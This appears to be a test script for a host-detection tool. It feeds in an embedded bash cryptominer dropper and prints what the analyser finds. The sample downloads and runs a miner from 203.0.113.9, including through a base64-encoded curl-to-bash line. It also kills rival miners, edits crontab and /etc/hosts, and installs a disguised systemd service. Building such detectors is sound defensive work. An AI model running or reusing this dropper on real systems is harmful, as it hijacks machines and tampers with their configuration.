import { analyseScript } from '/work/wt13a/src/detect/host/script/analyse.ts';
import { defaultIntelView } from '/work/wt13a/src/detect/host/scan.ts';
const iv = defaultIntelView();
const W='44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const W2='46WNbmwXpYxiBpkbHjAgjC65cyzAxtaaBQjcGpAZquhBKw2r8NtPQniEgMJcwFMCZzSBrEJtmPsTR54MoGBDbjTi2W1XmgM';
const payload = Buffer.from(`curl -s http://203.0.113.9/xm -o /tmp/.x/xm; /tmp/.x/xm -o pool.supportxmr.com:443 -u ${W}.rig7 -p w1 --tls`).toString('base64');
const src = `#!/bin/bash
WGET="wget -q -O"
DIR=/tmp/.x
URL=http://203.0.113.9/kinsing
KILIST=(minexmr.com ${W2} kdevtmpfsi)
for item in \${KILIST[@]}; do ps auxf|grep -v grep|grep $item|awk '{print $2}'|xargs kill -9; done
pkill -f xmr.crypto-pool.fr
crontab -l | sed '/pool.minexmr.com/d' | crontab -
echo "0.0.0.0 xmr-eu1.nanopool.org" >> /etc/hosts
$WGET $DIR/kinsing $URL
echo ${payload} | base64 -d | bash
cat > /etc/systemd/system/sysupd.service <<EOF
[Service]
ExecStart=/usr/sbin/sysupd -o stratum+tcp://xmr.f2pool.com:13531 -u someone@example.org --rig-id edge1
EOF
systemctl enable sysupd
curl -s https://blockchain.info/q/addressbalance/1BoatSLRHtKNngkdXEeobR76b53LETtpyT
`;
const a = analyseScript(src, 'sh', iv);
console.log(a.parsedBy, a.statements, a.layers);
console.log('own pools', [...a.own.pools.keys()], 'wallets', [...a.own.wallets.keys()].map(x=>x.slice(0,8)), 'acc', [...a.own.accounts], 'workers', [...a.own.workers], 'fam', [...a.own.families], a.own.persistence, [...a.own.urls], a.own.c2);
console.log('rival pools', [...a.rivals.pools.keys()], 'wallets', [...a.rivals.wallets.keys()].map(x=>x.slice(0,8)), [...a.rivals.names], [...a.rivals.families], a.rivals.lines);
console.log('deaddrops', a.deaddrops);
console.log(a.roles.map(r=>`${r.line} ${r.role}${r.how?':'+r.how:''} ${r.via??''}`).join('\n'));
import { readScript } from '/work/wt13a/src/detect/host/script/read.ts';
for (const s of readScript(src, 'sh').statements) console.log(s.line, s.depth, JSON.stringify(s.cmds.map(c=>c.argv)).slice(0,150), JSON.stringify(s.redirects).slice(0,200));
